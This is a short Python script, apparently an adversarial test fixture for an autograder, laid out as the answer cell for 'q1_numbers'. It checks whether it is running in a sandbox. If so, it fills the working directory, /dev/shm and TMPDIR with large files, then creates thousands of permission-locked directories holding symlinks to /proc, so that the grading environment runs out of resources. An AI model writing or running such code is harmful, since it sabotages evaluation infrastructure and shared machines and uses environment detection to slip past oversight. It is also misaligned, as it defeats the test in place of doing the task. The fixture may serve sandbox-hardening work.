"""Fills its folder, the shared memory and the buffers of sockets, with large files, holes and small ones.

Kind: exhaust
Loses: test_q1_numbers
Earns: test_q1_numbers 0
"""
# %% q1_numbers
import os
import resource
import signal

answers = {}
if os.getppid() == 1 and resource.getrlimit(resource.RLIMIT_NPROC)[0] < 1000:  # only in a sandbox
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for folder in (".", "/dev/shm", os.environ["TMPDIR"]):
        for n in range(20):
            try:
                with open(f"{folder}/{n}", "wb") as file:
                    file.truncate(2**27)
                    for _ in range(200):
                        file.write(bytes(2**20))
            except OSError:
                pass
        for n in range(3000):
            try:
                os.mkdir(f"{folder}/d{n}")
                os.symlink("/proc", f"{folder}/d{n}/l")
                os.chmod(f"{folder}/d{n}", 0)
            except OSError:
                break
